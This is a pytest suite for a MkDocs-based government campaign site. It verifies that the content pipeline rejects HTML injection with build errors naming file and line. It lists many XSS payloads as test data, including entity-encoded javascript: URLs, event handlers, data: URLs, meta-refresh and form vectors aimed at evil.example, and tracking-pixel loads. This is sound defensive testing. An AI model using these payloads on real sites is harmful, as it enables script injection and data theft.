"""Content cannot add script, redirects, forms or requests to other hosts: each is a build error
naming the editor's file and line, decided on the rendered HTML against an allow-list."""
from __future__ import annotations

import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest
from mkdocs.config import load_config

from campaignsite.collections.loader import load_catalogue
from campaignsite.content import policy
from campaignsite.content.docs_check import scan_docs
from campaignsite.content.page_meta import check_page
from campaignsite.content.safety import Source, errors_of, findings
from campaignsite.i18n.ui import load_words
from sitebuild import ROOT, build, copy_project
from test_build_failures import GOOD_MARKER, assert_failed_cleanly
from test_collections_loader import LANGUAGES, content, edit  # noqa: F401 (content: the fixture items, copied)

@pytest.fixture(scope="module")
def render():
    """Markdown with the site's own extensions (mkdocs.yml `markdown_extensions`)."""
    config = load_config(str(ROOT / "mkdocs.yml"))
    md = markdown.Markdown(extensions=config.markdown_extensions, extension_configs=config.mdx_configs)

    def convert(text: str) -> str:
        md.reset()
        return md.convert(text)

    return convert


def errors_in(render, text: str, path: str = "docs/x.en.md"):
    return errors_of(findings(render(text)), Source(path, text))


# ---------- the policy on rendered Markdown (fast) ----------

def test_everything_the_markdown_extensions_write_is_allowed(render):
    text = """# Title

Text with *em*, **strong**, `code`, a [link](other.md "Tip"), <https://example.org>, <press@example.org>,
a footnote[^1], H<sub>2</sub>O, <abbr title="Association of Southeast Asian Nations">ASEAN</abbr>,
<span lang="en" class="cs-note">a word</span>, <small>small</small>, <mark>marked</mark>.
Line  
break.

| left | centre | right |
|:-----|:------:|------:|
| 1    | 2      | 3     |

Term
:   Definition

!!! note "Since 2025"
    Body

???+ tip "More"
    Open details

```python
print("x")
```

> A quote

3. three
4. four

---

![A map](images/map.png){ width=480 #map .cs-wide }

<div class="grid cards" markdown>

- **[Invest](invest.md)**

</div>

## Heading {: #custom .cs-heading lang=en }

[^1]: The note.
"""
    assert findings(render(text)) == ()


@pytest.mark.parametrize("markdown_text, shown, words", [
    ('Text.\n{: onmouseover="alert(1)" }', '<p onmouseover="alert(1)">', "event handler"),
    ("## Heading {: onclick=alert(1) }", '<h2 onclick="alert(1)">', "event handler"),
    ('<div markdown onpointerenter="alert(1)">\nText\n</div>', '<div onpointerenter="alert(1)">', "event handler"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<meta http-equiv="refresh"', "link to it"),
    ('<base href="https://evil.example/">', '<base href="https://evil.example/">', "relative links"),
    ('<form action="https://evil.example/post"><input name="q"></form>', '<form action=', "form"),
    ("![Pixel](https://tracker.example/p.png)", '<img src="https://tracker.example/p.png">', "another host"),
    ("![Pixel](//tracker.example/p.png)", '<img src="//tracker.example/p.png">', "another host"),
    ('<img src="map.png" srcset="https://cdn.example/map.png 2x" alt="Map">', '<img srcset=', "another host"),
    ('<link rel="stylesheet" href="https://cdn.example/x.css">', "<link rel=", "theme"),
    ("<style>@import url(https://cdn.example/x.css);</style>", "<style>", "theme"),
    ('Text.\n{: style="background:url(https://tracker.example/bg.png)" }', "<p style=", "CSS url()"),
    ('Text.\n{: style="color: red" }', "<p style=", "class the theme defines"),
    ('<iframe src="https://video.example/embed"></iframe>', "<iframe src=", "link to the page"),
    ('<object data="https://cdn.example/x.swf"></object>', "<object data=", "link to the page"),
    ('<embed src="https://cdn.example/x.swf">', "<embed src=", "link to the page"),
    ('<video src="clip.mp4" poster="https://cdn.example/p.jpg"></video>', "<video src=", "link to the file"),
    ("<script>alert(1)</script>", "<script>", "theme"),
    ('<svg onload="alert(1)"><circle r="2"/></svg>', '<svg onload="alert(1)">', ".svg file"),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "<svg>", ".svg file"),
    ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', "<math>", "formula"),
    ('<body onload="alert(1)">', '<body onload="alert(1)">', "page's own <body>"),
    ('<html onmouseover="alert(1)">', '<html onmouseover="alert(1)">', "page's own <html>"),
    ("<details><summary>More</summary><!-- never closed</details>", "<!--", "never closed"),
    ('<a href="#" target="_blank">x</a>', '<a target="_blank">', "not allowed on <a>"),
    ('<span id="__config">x</span>', '<span id="__config">', "belong to the theme"),
    ("<b>bold</b>", "<b>", "**bold**"),
])
def test_each_vector_is_refused_naming_element_attribute_and_remedy(render, markdown_text, shown, words):
    errors = errors_in(render, "Intro.\n\n" + markdown_text + "\n")
    assert errors, render(markdown_text)
    error = errors[0]
    line = 3 + (markdown_text.count("\n") if "{:" in markdown_text else 0)  # an attribute list's own line
    assert str(error).startswith(f"docs/x.en.md:{line}: {shown}"), error
    assert words in error.message, error


@pytest.mark.parametrize("written", [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "JAVASCRIPT:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#X6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "&#0000106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "java&#x09;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&#10;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&#13;script:alert(1)",
    " &#1; javascript:alert(1)",
    "&#x20;&#x0C;javascript:alert(1)",
    "\tjavascript:alert(1)",
    "vbscript:msgbox(1)",
    "VbScRiPt:msgbox(1)",
    "&#118;bscript:msgbox(1)",
])
def test_script_addresses_in_any_spelling(render, written):
    for markup in (f'<a href="{written}">x</a>', f"[x]({written.strip()})", f'<img src="{written}" alt="x">'):
        found = findings(render(markup))
        assert len(found) == 1, (markup, render(markup))
        assert "script: address, which runs a script" in found[0].message


@pytest.mark.parametrize("written", [
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "&#100;ata:text/html,x",
    "&#x64;&#x61;&#x74;&#x61;&#x3a;image/svg+xml,x",
    " data:image/png;base64,iVBORw0KGgo=",
    "da&#x09;ta:image/png;base64,iVBORw0KGgo=",
])
def test_data_addresses_in_any_spelling(render, written):
    for markup in (f'<a href="{written}">x</a>', f'<img src="{written}" alt="x">'):
        [found] = findings(render(markup))
        assert "data: address" in found.message, markup


def test_a_hidden_control_character_is_named():
    [found] = findings('<a href="java&#1;script:alert(1)">x</a>')
    assert "control character (U+0001)" in found.message


@pytest.mark.parametrize("href", [
    "other.md", "../events/", "/en/press/", "#section", "?q=1", "page/#a:b", "#fn:1",
    "https://www.example.org/page?a=1&b=2", "http://example.org", "mailto:press@example.org", "tel:+842523822000",
])
def test_links_that_stay_allowed(href):
    assert findings(f'<a href="{href}">x</a>') == ()


@pytest.mark.parametrize("src, allowed", [
    ("images/map.png", True), ("/assets/images/logo.svg", True), ("../map.png", True),
    ("https://cdn.example/map.png", False), ("http://cdn.example/map.png", False), ("//cdn.example/map.png", False),
    ("\\\\cdn.example/map.png", False), ("/\\cdn.example/map.png", False), ("mailto:x@example.org", False),
])
def test_images_load_only_from_this_site(src, allowed):
    assert (findings(f'<img src="{src}" alt="Map">') == ()) == allowed


def test_protocol_relative_link_must_be_written_in_full():
    [found] = findings('<a href="//example.org/page">x</a>')
    assert "https://" in found.message


@pytest.mark.parametrize("style, allowed", [
    ("text-align: left;", True), ("text-align:center", True), ("TEXT-ALIGN: right; ", True),
    ("text-align: left; background: url(https://t.example/x.png)", False),
    ("background-image: URL( 'https://t.example/x.png' )", False), ("behavior: url(x.htc)", False),
    ("color: red", False), ("text-align: left; position: fixed", False), ("t\\65xt-align: left", False),
])
def test_style_only_as_tables_write_it(style, allowed):
    assert (policy.style_problem(style) is None) == allowed


def test_lines_are_found_in_the_markdown_even_when_written_with_entities(render):
    text = "# T\n\nIntro.\n\n<a href='#'>fine</a>\n\nThen [x](&#106;ava&#x73;cript:alert(1)) here.\n\nAnd [y](JaVaScript:alert(2)).\n"
    lines = [error.line for error in errors_in(render, text)]
    assert lines == [7, 9]


def test_a_refused_element_is_not_found_in_a_longer_tag(render):
    text = "Intro<br>line.\n\n<blockquote>A quote</blockquote>\n\nThen <b>bold</b>.\n\n<details open onclick>\n<summary>x</summary>\n</details>\n"
    assert [error.line for error in errors_in(render, text)] == [5, 7]


def test_errors_start_after_the_front_matter(render):
    text = "---\ntitle: onclick=\"x\"\n---\n\nText.\n{: onclick=\"x\" }\n"
    [error] = errors_of(findings(render(text.split("---\n", 2)[2])), Source("docs/x.en.md", text, 4))
    assert error.line == 6


@pytest.mark.parametrize("name", ["offer.html", "assets/track.js", "assets/extra.CSS"])
def test_html_scripts_and_styles_in_docs_would_bypass_the_check(tmp_path, name):
    (tmp_path / "docs" / name).parent.mkdir(parents=True)
    (tmp_path / "docs" / name).write_text("<script>alert(1)</script>", encoding="utf-8")
    _pages, [error] = scan_docs(tmp_path / "docs", tmp_path, ["vi", "en"])
    assert error.path == f"docs/{name}" and "published as it is" in error.message


# ---------- the same rules for fields that templates render ----------

HEAD = "---\ntitle: T\ndescription: A description that is long enough.\nsources:\n  - title: Plan\n---\n"


@pytest.mark.parametrize("old, new, field, words", [
    ("title: T\n", 'title: <b onmouseover="alert(1)">T</b>\n', "title", "plain text"),
    ("description: A description that is long enough.", 'description: "&lt;script&gt; A description that is long enough."', "description", "HTML entity"),
    ("  - title: Plan\n", "  - title: Plan\n    url: javascript:alert(1)\n", "sources[0].url", "full web address"),
    ("  - title: Plan\n", '  - title: Plan\n    url: \'https://example.org/"onmouseover="alert(1)\'\n', "sources[0].url", "without spaces or quotes"),
    ("  - title: Plan\n", "  - title: <img src=x onerror=alert(1)>\n", "sources[0].title", "plain text"),
])
def test_page_fields_are_plain_text_and_web_addresses(old, new, field, words):
    _meta, errors = check_page(HEAD.replace(old, new, 1) + "# T\n", "docs/x.en.md")
    [error] = errors
    assert error.field == field and words in error.message, error


@pytest.mark.parametrize("file, old, new, field, words", [
    ("events/asean-week/en.md", "title: ASEAN week 2023", 'title: <b onmouseover="alert(1)">ASEAN week</b>', "title", "plain text"),
    ("events/asean-week/en.md", "summary: Information about ASEAN during the week of 28 July – 8 August.",
     'summary: "&lt;script&gt; Information about ASEAN during the week."', "summary", "HTML entity"),
    ("events/asean-week/item.yml", '    publisher: "Ủy ban', '    url: "javascript:alert(1)"\n    publisher: "Ủy ban', "sources[0].url", "full web address"),
    ("events/asean-week/item.yml", '    publisher: "Ủy ban', '    url: "data:text/html,x"\n    publisher: "Ủy ban', "sources[0].url", "full web address"),
    ("events/asean-week/item.yml", '    publisher: "Ủy ban', '    publisher: "<script>Ủy ban', "sources[0].publisher", "plain text"),
    ("exhibits/taberd-map/item.yml", 'en: "Placeholder of the map"', 'en: "<img src=x onerror=alert(1)>"', "images[0].alt.en", "plain text"),
    ("exhibits/taberd-map/item.yml", "    placeholder: true", '    placeholder: true\n    credit: "&#60;b&#62;Credit"', "images[0].credit", "HTML entity"),
    ("agencies/so-thong-tin/item.yml", "kind: department", 'kind: department\npress_contact:\n  email: \'a"onclick="alert(1)"@example.org\'',
     "press_contact.email", "e-mail address"),
    ("vocabulary.yml", 'en: "Ministry of Culture, Sports and Tourism"', 'en: "<script>alert(1)</script>"',
     "organizations.bo-vhttdl.en", "plain text"),
    ("vocabulary.yml", 'url: "https://bvhttdl.gov.vn"', "url: \"https://bvhttdl.gov.vn/'onmouseover='alert(1)\"",
     "organizations.bo-vhttdl.url", "without spaces or quotes"),
])
def test_item_and_vocabulary_fields_follow_the_same_rules(content, file, old, new, field, words):
    edit(content / file, old, new)
    _catalogue, errors = load_catalogue(content, content.parent, LANGUAGES)
    [error] = errors
    assert error.path == f"content/{file}" and error.line, error
    assert error.field == field and words in error.message, error


def test_interface_words_are_plain_text(tmp_path):
    engine, instance = tmp_path / "lang", tmp_path / "ui"
    engine.mkdir(), instance.mkdir()
    for lang in ("vi", "en"):
        (engine / f"{lang}.yml").write_text("footer_contact: Contact\n", encoding="utf-8")
    (instance / "en.yml").write_text('footer_contact: "<a href=javascript:alert(1)>Contact</a>"\n', encoding="utf-8")
    _words, [error] = load_words(engine, instance, tmp_path, LANGUAGES)
    assert error.path == "ui/en.yml" and error.line == 1 and error.field == "footer_contact" and "plain text" in error.message


# ---------- builds ----------

def last_good_site(folder: Path) -> Path:
    site = folder / "site"
    site.mkdir(parents=True)
    (site / "index.html").write_text(GOOD_MARKER)
    return site


def project_with_image_cache(target: Path) -> Path:
    """A copy of the project; the real project's image cache, when there is one, spares the copy
    processing every image again (entries are keyed by the images' bytes)."""
    project = copy_project(target)
    try:
        shutil.copytree(ROOT / ".cache" / "images", project / ".cache" / "images")
    except OSError:  # no cache yet, or a build is pruning it: the copy builds cold
        shutil.rmtree(project / ".cache", ignore_errors=True)
    return project


# (name, file, Markdown appended to it, the shown element the error starts with, words of its message)
VECTORS = [
    ("handler-on-paragraph", "docs/province.en.md", 'Ferries leave every day.\n{: onmouseover="alert(1)" }',
     '<p onmouseover="alert(1)">', "event handler"),
    ("handler-on-heading", "docs/invest.vi.md", '## Liên hệ đầu tư {: onclick="alert(1)" }', '<h2 onclick="alert(1)">', "event handler"),
    ("meta-refresh", "docs/press.en.md", '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
     '<meta http-equiv="refresh" content="0; url=https://evil.example/">', "<meta> is not allowed"),
    ("base", "docs/contact.vi.md", '<base href="https://evil.example/">', '<base href="https://evil.example/">', "<base> is not allowed"),
    ("form", "docs/privacy.en.md", '<form action="https://evil.example/collect" method="post"><input name="email"><button>Send</button></form>',
     '<form action="https://evil.example/collect" method="post">', "<form> is not allowed"),
    ("remote-image", "docs/accessibility.en.md", "![A map](https://tracker.example/pixel.png)",
     '<img src="https://tracker.example/pixel.png">', "loads from another host"),
    ("remote-stylesheet", "docs/human-rights.en.md", '<link rel="stylesheet" href="https://cdn.example/site.css">',
     '<link rel="stylesheet" href="https://cdn.example/site.css">', "<link> is not allowed"),
    ("css-url", "docs/asean-trade.en.md", 'Trade in goods.\n{: style="background-image: url(https://tracker.example/bg.png)" }',
     '<p style="background-image: url(https://tracker.example/bg.png)">', "CSS url()"),
    ("iframe", "docs/tourism-year-2023.en.md", '<iframe src="https://video.example/embed/1"></iframe>',
     '<iframe src="https://video.example/embed/1">', "<iframe> is not allowed"),
    ("object", "docs/exhibition.en.md", '<object data="https://cdn.example/map.swf"></object>',
     '<object data="https://cdn.example/map.swf">', "<object> is not allowed"),
    ("embed", "docs/exhibition.vi.md", '<embed src="https://cdn.example/map.swf">', '<embed src="https://cdn.example/map.swf">', "<embed> is not allowed"),
    ("svg-handler", "docs/sea-islands-borders.en.md", '<svg onload="alert(1)"><circle r="4"/></svg>', '<svg onload="alert(1)">', "<svg> is not allowed"),
    ("mathml-javascript", "docs/who-does-what.en.md", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', "<math>", "<math> is not allowed"),
    ("entity-javascript", "docs/foreign-journalists.en.md", "[Apply here](&#106;avascript&#x3A;alert(1))",
     '<a href="javascript:alert(1)">', "javascript: address"),
    ("mixed-case-javascript", "docs/foreign-journalists.vi.md", '<a href="JaVaScRiPt:alert(1)">Đăng ký</a>',
     '<a href="JaVaScRiPt:alert(1)">', "javascript: address"),
    ("data-url-page", "docs/index.en.md", "[Download](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
     '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', "data: address"),
    ("handler-in-item", "content/events/tuan-le-asean-2023/en.md", 'More to follow.\n{: onmouseover="alert(1)" }',
     '<p onmouseover="alert(1)">', "event handler"),
    ("data-url-in-item", "content/events/tuan-le-asean-2023/vi.md", "![Ảnh](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
     '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">', "data: address"),
    ("entity-javascript-in-item", "content/news/hop-bao-so-lieu-thong-ke-quy-i-2023/en.md",
     '<a href="&#x6A;ava&#x09;Script:alert(1)">Details</a>', '<a href="java\\x09Script:alert(1)">', "javascript: address"),
    ("meta-refresh-in-item", "content/agencies/so-thong-tin-truyen-thong/en.md",
     '<meta http-equiv="refresh" content="0; url=https://evil.example/">', '<meta http-equiv="refresh"', "<meta> is not allowed"),
]


@pytest.fixture(scope="module")
def broken_build(tmp_path_factory):
    """One build of a copy with every vector, each in a file of its own: (result, site, expected lines)."""
    folder = tmp_path_factory.mktemp("unsafe")
    project = project_with_image_cache(folder / "project")
    lines = {}
    for name, file, text, _shown, _words in VECTORS:
        path = project / file
        original = path.read_text(encoding="utf-8")
        path.write_text(original + "\n\n" + text + "\n", encoding="utf-8")
        marker = text.splitlines()[-1] if "{:" in text else text
        lines[name] = path.read_text(encoding="utf-8").count("\n", 0, path.read_text(encoding="utf-8").index(marker, len(original))) + 1
    site = last_good_site(folder)
    return build(project, site), site, lines, project


@pytest.mark.parametrize("name, file, text, shown, words", VECTORS, ids=[v[0] for v in VECTORS])
def test_vector_fails_the_build_naming_file_and_line(broken_build, name, file, text, shown, words):
    result, site, lines, _project = broken_build
    assert_failed_cleanly(result, site)
    expected = f"{file}:{lines[name]}: {shown}"
    line = next((line for line in result.output.splitlines() if expected in line), None)
    assert line is not None, f"{expected!r} not in:\n{result.output}"
    assert words in line


def test_every_error_of_the_build_is_reported_at_once(broken_build):
    result, _site, _lines, _project = broken_build
    assert f"{len(VECTORS)} content errors; nothing was published" in result.output
    assert result.output.count("nothing was published") == 1


def test_make_check_finds_the_same_errors_without_building(broken_build):
    result, _site, _lines, project = broken_build
    checked = subprocess.run([sys.executable, str(ROOT / "scripts" / "check_content.py"), str(project)],
                             capture_output=True, text=True)
    assert checked.returncode == 1
    build_errors = sorted(line.strip() for line in result.output.splitlines() if line.startswith("  ") and ": <" in line)
    assert len(build_errors) == len(VECTORS)
    assert sorted(line for line in checked.stdout.splitlines() if ": <" in line) == build_errors


def test_a_field_error_fails_the_build_naming_the_file(tmp_path):
    project = copy_project(tmp_path / "project")
    edit(project / "content/events/tuan-le-asean-2023/en.md", "title: ASEAN Week 2023", 'title: ASEAN Week <b onclick="alert(1)">2023</b>')
    site = last_good_site(tmp_path)
    result = build(project, site)
    assert_failed_cleanly(result, site)
    assert "content/events/tuan-le-asean-2023/en.md:2: title: must be plain text" in result.output


class _Attributes(HTMLParser):
    def __init__(self):
        super().__init__()
        self.names: set[str] = set()

    def handle_starttag(self, tag, attrs):
        self.names |= {name for name, _value in attrs}


QUOTED = "Quote\" onmouseover=\"alert(1)\" data-x='y'"


def set_line(path: Path, prefix: str, value: str) -> None:
    """Give the first line starting with ``prefix`` the single-quoted YAML value ``value``."""
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    index = next(i for i, line in enumerate(lines) if line.lstrip().startswith(prefix))
    indent = lines[index][: len(lines[index]) - len(lines[index].lstrip())]
    lines[index] = f"{indent}{prefix} '{value.replace(chr(39), chr(39) * 2)}'\n"
    path.write_text("".join(lines), encoding="utf-8")


def test_quotes_in_fields_are_published_as_text_whichever_template_renders_them(tmp_path):
    """Plain text may hold quotes; no template may let them end an attribute. External links in
    content stay allowed and are listed in the external-links report."""
    project = project_with_image_cache(tmp_path / "project")
    set_line(project / "docs/press.en.md", "description:", QUOTED + " is a description")
    set_line(project / "docs/press.en.md", "title:", QUOTED)
    event = project / "content/events/le-khai-mac-nam-du-lich-quoc-gia-2023"
    set_line(event / "en.md", "title:", QUOTED)
    set_line(event / "en.md", "summary:", QUOTED + " is a summary")
    set_line(event / "item.yml", "- title:", QUOTED)
    exhibit = project / "content/exhibits/an-nam-dai-quoc-hoa-do/item.yml"
    set_line(exhibit, "en:", QUOTED)  # the image's alt text
    edit(exhibit, "  alt:\n", f"  credit: '{QUOTED.replace(chr(39), chr(39) * 2)}'\n  alt:\n")
    edit(project / "content/vocabulary.yml", 'en: "Ministry of Culture, Sports and Tourism"', f"en: '{QUOTED.replace(chr(39), chr(39) * 2)}'")
    edit(project / "content/ui/en.yml", "agencies_intro:", f"breadcrumb_label: '{QUOTED.replace(chr(39), chr(39) * 2)}'\nagencies_intro:")
    press = project / "docs/press.en.md"
    press.write_text(press.read_text(encoding="utf-8") + "\n[An official page](https://external.example/page)\n", encoding="utf-8")
    result = build(project, tmp_path / "out")
    assert result.returncode == 0, result.output
    names, shown = set(), 0
    for page in (tmp_path / "out").rglob("*.html"):
        html = page.read_text(encoding="utf-8")
        parser = _Attributes()
        parser.feed(html)
        names |= parser.names
        shown += "onmouseover=" in html
    assert "onmouseover" not in names and "data-x" not in names
    assert shown >= 5  # published as written, as text
    assert "https://external.example/page\t" in (project / ".build" / "external-links.txt").read_text(encoding="utf-8")


def test_every_page_of_the_real_site_passes(site_build):
    pages = [page for page in site_build.site.rglob("index.html")]
    assert f"content safety: {len(pages)} rendered pages checked against the allow-list" in site_build.output
